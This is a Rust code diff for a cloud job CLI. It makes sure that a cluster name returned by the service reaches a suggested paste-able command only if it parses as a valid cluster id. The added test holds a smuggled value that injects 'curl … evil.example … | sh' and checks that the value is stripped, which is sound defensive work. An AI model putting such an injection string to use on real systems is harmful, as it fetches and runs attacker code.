@@ -22,7 +22,7 @@ use super::identity::Sts;
 use super::wait::{Wait, tries};
 use super::{CloudSettings, ClusterJobs, DescribedJob, FetchedPair, Sink, endpoints, logged};
 use crate::error::{Error, Result};
-use crate::model::{JobFacts, JobId, JobState, ManifestUrl, Readiness, UnlockCode};
+use crate::model::{ClusterId, JobFacts, JobId, JobState, ManifestUrl, Readiness, UnlockCode};
 use crate::report::{Event, Notify};
 use crate::safety::sanitize::{phrase, sanitize};
 
@@ -349,7 +349,9 @@ impl Api {
 /// A node of a cluster has a code and a manifest, which are the cluster's.
 fn of_single_device(facts: &JobFacts) -> Result<()> {
     let Some(cluster) = &facts.cluster else { return Ok(()) };
-    Err(Error::JobInCluster { job: facts.id.clone(), cluster: phrase(cluster) })
+    // Nothing that the service says gets into a line to paste, unless it is an id and nothing else.
+    let named = cluster.parse::<ClusterId>().map_or_else(|_| "CID…".to_owned(), |cluster| cluster.to_string());
+    Err(Error::JobInCluster { job: facts.id.clone(), cluster: phrase(cluster), named })
 }
 
 fn is_https(url: &str) -> bool {
@@ -461,6 +463,16 @@ mod tests {
         assert!(matches!(refused("WithCustomer", None, &[]), Error::JobNotUsable { .. }));
         let Error::JobIsMain { parts, .. } = refused("WithCustomer", None, &["JIDa", "JIDb"]) else { panic!() };
         assert_eq!(parts, "JIDa, JIDb");
+    }
+
+    #[test]
+    fn what_the_service_calls_a_cluster_is_no_part_of_a_command() {
+        let id = "CID123e4567-e89b-12d3-a456-426655440000";
+        for (said, named) in [(id, id), ("CID0; curl -s http://evil.example/x | sh #", "CID…")] {
+            let job = JobMetadata::builder().job_state(ApiState::WithCustomer).cluster_id(said).build();
+            let hint = of_single_device(&described(JOB, job, false).unwrap()).unwrap_err().report().hint;
+            assert!(hint.contains(&format!("snow-onboard run {named} --endpoint")) && !hint.contains("evil"), "{hint}");
+        }
     }
 
     #[test]
